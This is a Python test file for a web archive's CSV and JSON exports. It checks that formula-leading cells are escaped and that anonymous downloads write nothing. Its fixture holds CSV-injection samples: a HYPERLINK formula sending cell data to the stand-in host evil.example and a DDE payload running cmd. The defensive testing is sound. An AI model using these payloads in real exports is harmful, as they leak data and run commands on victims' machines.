"""The open-data exports: spreadsheet-safe CSV cells, and downloads that write nothing."""

import csv
import io

import pytest
import sqlalchemy as sa

from app.extensions import db
from app.models import AuditEvent

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")',
    "summary": "=1+2 is de samenvatting",
    "situation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "question": "+31 20 123 4567 belde",
    "outcome": "-2+3",
    # A leading tab or carriage return is neutralised too, but the case service strips both.
}


@pytest.fixture
def formula_case(write_case, publish):
    case = write_case(**FORMULAS)
    publish(case)
    return case


def test_csv_cells_that_start_a_formula_get_a_leading_apostrophe(client, formula_case):
    [row] = csv.DictReader(io.StringIO(client.get("/archive/export.csv").get_data(as_text=True)))
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field
    assert row["licence"] == "CC BY 4.0"  # ordinary cells stay as they are


def test_the_json_export_keeps_the_text_as_written(client, formula_case):
    [record] = client.get("/archive/export.json").get_json()["cases"]
    for field, value in FORMULAS.items():
        assert record[field] == value, field


@pytest.mark.parametrize("path", ["/archive/export.csv", "/archive/export.json"])
def test_anonymous_downloads_write_nothing(client, formula_case, write_statements, path):
    audit_rows = db.session.scalar(sa.select(sa.func.count(AuditEvent.id)))
    for _ in range(5):
        assert client.get(path).status_code == 200
    assert write_statements == []
    assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id))) == audit_rows
